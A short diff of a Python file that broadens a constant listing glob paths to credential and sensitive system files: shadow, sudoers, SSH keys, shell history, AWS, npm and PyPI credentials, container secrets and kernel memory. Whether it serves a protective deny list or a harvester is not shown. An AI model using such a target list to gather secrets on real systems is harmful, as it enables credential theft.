@@ -4,8 +4,8 @@
 import glob
 
 PLACES = (
-    "/etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_* /root/.ssh/* /home/*/.ssh/* /root/.bash_history "
-    "/root/.aws/* /root/.config/*/* /home/*/.aws/* /root/.netrc /home/*/.netrc /root/.npmrc /root/.pypirc "
+    "/etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_* /*/.ssh/* /*/*/.ssh/* /*/.bash_history /*/*/.bash_history "
+    "/*/.aws/* /*/*/.aws/* /*/.config/*/* /*/.netrc /*/*/.netrc /*/.npmrc /*/*/.npmrc /*/.pypirc /*/*/.pypirc "
     "/var/run/secrets/*/*/* /run/secrets/* /proc/kcore /proc/kallsyms /dev/kmsg /boot/* /var/log/* /etc/machine-id"
 ).split()
 
